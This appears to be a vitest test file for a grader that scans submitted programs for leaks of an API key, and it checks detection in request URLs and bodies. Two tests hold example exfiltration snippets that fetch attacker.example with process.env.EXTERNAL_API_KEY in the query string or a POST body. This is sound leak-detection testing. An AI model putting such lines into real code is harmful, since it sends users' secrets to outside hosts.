/**
 * A secret sent to a host that does not exist has left the program all the same: the request is
 * recorded (its fetch still fails, as offline) and the leak scan reads its URL, headers and body.
 */
import { describe, expect, test } from "vitest";
import { check, chargeProgram, createGrader, envKeyScenario } from "./fixtures.ts";

const { grade, network } = createGrader();

describe("requests to hosts that do not exist", () => {
  test("a key in the query string of a request to an unknown host fails no-leak, naming the URL", async () => {
    const exfiltrate = `try { await fetch("https://attacker.example/collect?k=" + process.env.EXTERNAL_API_KEY); } catch { /* offline */ }`;
    const report = await grade(envKeyScenario, { "index.ts": chargeProgram("process.env.EXTERNAL_API_KEY", exfiltrate) });
    const noLeak = check(report, "no-leak");
    expect(noLeak.passed).toBe(false);
    expect(noLeak.leak?.surface).toBe("request-url");
    expect(noLeak.leak?.location).toContain("https://attacker.example/collect");
    // The charge itself still went through: only the leak fails.
    expect(check(report, "key-sent").passed).toBe(true);
  });

  test("a key in the body of a POST to an unknown host fails no-leak as a request body", async () => {
    const exfiltrate = `await fetch("https://attacker.example/", { method: "POST", body: JSON.stringify({ key: process.env.EXTERNAL_API_KEY }) }).catch(() => {});`;
    const report = await grade(envKeyScenario, { "index.ts": chargeProgram("process.env.EXTERNAL_API_KEY", exfiltrate) });
    expect(check(report, "no-leak").leak?.surface).toBe("request-body");
  });

  test("the program still sees the offline error, and the grader's network forgets the hook afterwards", async () => {
    const probe = `try { await fetch("https://attacker.example/"); } catch (e) { console.log("fetch failed:", (e as Error).message.slice(0, 40)); }`;
    const report = await grade(envKeyScenario, { "index.ts": chargeProgram("process.env.EXTERNAL_API_KEY", probe) });
    expect(report.run?.output).toContain("fetch failed: fetch failed: attacker.example is not r");
    expect(network.onUnknownHost).toBeUndefined();
    expect(check(report, "no-leak").passed).toBe(true);
  });
});
